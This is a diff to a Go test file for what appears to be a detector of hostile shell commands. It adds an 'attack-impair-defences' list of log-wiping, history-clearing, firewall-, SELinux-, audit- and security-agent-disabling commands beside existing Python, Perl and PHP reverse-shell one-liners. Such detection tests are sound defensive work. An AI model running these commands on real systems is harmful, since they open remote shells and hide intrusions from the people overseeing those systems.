@@ -30,6 +30,10 @@ func TestLiteralsMissNoMatch(t *testing.T) {
 			`python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("x",1));os.dup2(s.fileno(),0)'`,
 			`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("x")));exec("/bin/sh -i");'`,
 			`php -r '$s=fsockopen("x",1);exec("/bin/sh -i <&3 >&3 2>&3");'`},
+		"attack-impair-defences": {`chattr +i /root/.ssh/authorized_keys`, `chattr -ia /etc/passwd /etc/shadow`, `chattr -R +i /var/spool/cron`,
+			`echo > /var/log/wtmp`, `cat /dev/null > /var/log/btmp`, `rm -f /var/log/lastlog`, `truncate -s 0 /var/run/utmp`,
+			`history -c`, `setenforce 0`, `ufw disable`, `auditctl -e 0`, `systemctl stop apparmor`, `service aegis stop`, `systemctl disable aliyun`,
+			`rm -rf /usr/local/aegis`, `bash /usr/local/qcloud/stargate/admin/uninstall.sh`},
 	}
 	m, err := NewMatcher(DefaultPatterns(), 1<<20)
 	if err != nil {
